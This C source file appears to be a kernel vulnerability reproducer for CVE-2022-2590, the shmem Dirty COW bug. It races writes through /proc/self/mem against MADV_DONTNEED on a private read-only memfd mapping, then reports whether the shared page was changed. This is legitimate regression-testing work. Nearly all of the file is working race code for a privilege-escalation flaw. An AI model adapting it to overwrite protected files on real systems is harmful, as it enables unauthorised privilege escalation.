/* Trigger for CVE-2022-2590 (shmem Dirty COW): FOLL_FORCE writes to private shmem. */
/*
 * A memfd (shmem) with known content is mapped MAP_PRIVATE read-only; one thread writes into
 * the mapping through /proc/self/mem (FOLL_FORCE: must land in a private COW copy), another
 * drops it with MADV_DONTNEED. The FOLL_COW logic trusted a dirty PTE, which shmem (and
 * uffd-wp) could provide without a COW copy, so the write reached the shared page cache.
 * Evidence: the memfd, read through its descriptor, changed.
 */
#include <pthread.h>
#include <stdint.h>
#include <sys/mman.h>
#include <time.h>

#include "repro_lib.h"

#define RACE_NS		1500000000LL
#define MARK		"mmstorm-shmem-dirty-cow"

struct race {
	char *map;
	long psz;
	volatile int stop;
};

static long long now_ns(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * 1000000000LL + ts.tv_nsec;
}

static void *dontneed(void *arg)
{
	struct race *r = arg;

	while (!r->stop) {
		madvise(r->map, (size_t)r->psz, MADV_DONTNEED);
		(void)*(volatile char *)r->map;	/* map the shmem page again, read-only */
	}
	return NULL;
}

int main(void)
{
	struct race r = { .psz = sysconf(_SC_PAGESIZE) };
	long long end, writes = 0;
	char buf[64];
	pthread_t t;
	int fd, memfd, ret;

	fd = memfd_create("mmstorm-shmem-dirty-cow", MFD_CLOEXEC);
	if (fd < 0)
		return repro_skip("memfd_create: %s", strerror(errno));
	memset(buf, 'A', sizeof(buf));
	if (ftruncate(fd, r.psz) || pwrite(fd, buf, sizeof(buf), 0) != sizeof(buf)) {
		close(fd);
		return repro_error("filling the memfd: %s", strerror(errno));
	}
	r.map = mmap(NULL, (size_t)r.psz, PROT_READ, MAP_PRIVATE, fd, 0);
	memfd = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
	if (r.map == MAP_FAILED || memfd < 0) {
		close(fd);
		return repro_error("mmap or /proc/self/mem: %s", strerror(errno));
	}
	if (pthread_create(&t, NULL, dontneed, &r)) {
		ret = repro_error("pthread_create failed");
		goto out;
	}
	for (end = now_ns() + RACE_NS; now_ns() < end; writes++)
		if (pwrite(memfd, MARK, strlen(MARK), (off_t)(uintptr_t)r.map) < 0)
			break;
	r.stop = 1;
	pthread_join(t, NULL);
	if (pread(fd, buf, sizeof(buf), 0) != sizeof(buf))
		ret = repro_error("reading the memfd back: %s", strerror(errno));
	else if (!memcmp(buf, MARK, strlen(MARK)))
		ret = repro_found("the memfd's shared page took the write made through "
				  "/proc/self/mem into a private read-only mapping (after %lld "
				  "writes)", writes);
	else
		ret = repro_not("%lld /proc/self/mem writes raced MADV_DONTNEED on a private "
				"shmem mapping for %.1f s; the memfd kept its content", writes,
				RACE_NS / 1e9);
out:
	close(memfd);
	close(fd);
	return ret;
}
